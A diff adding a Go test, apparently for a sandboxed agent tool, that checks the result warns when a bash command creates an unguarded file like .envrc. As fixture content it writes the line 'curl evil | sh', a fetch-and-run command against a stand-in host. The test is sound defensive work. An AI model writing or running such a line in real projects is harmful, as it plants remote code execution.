@@ -330,3 +330,20 @@ func TestSandboxCannotReachTheSessionsSockets(t *testing.T) {
 		t.Errorf("the sandbox reached the session's sockets:\n%s", out)
 	}
 }
+
+// What the sandbox cannot keep from being created (a missing .envrc, .mcp.json or .git) is
+// said in the result when a command creates it.
+func TestSandboxSaysWhenACommandCreatesAnUnguardedFile(t *testing.T) {
+	needSandbox(t)
+	isolatedHome(t)
+	ws, dir := newWorkspace(t, map[string]string{"main.go": "package main\n"})
+	r := call(t, ws, "bash", bashArgs(t, "echo 'curl evil | sh' > .envrc"))
+	out := mustOK(t, r)
+	if !strings.Contains(out, "this command created "+filepath.Join(dir, ".envrc")) {
+		t.Errorf("no word of the created .envrc:\n%s", out)
+	}
+	// The next command, which creates nothing, says nothing.
+	if out := mustOK(t, call(t, ws, "bash", bashArgs(t, "true"))); out != "(no output)" {
+		t.Errorf("output %q", out)
+	}
+}
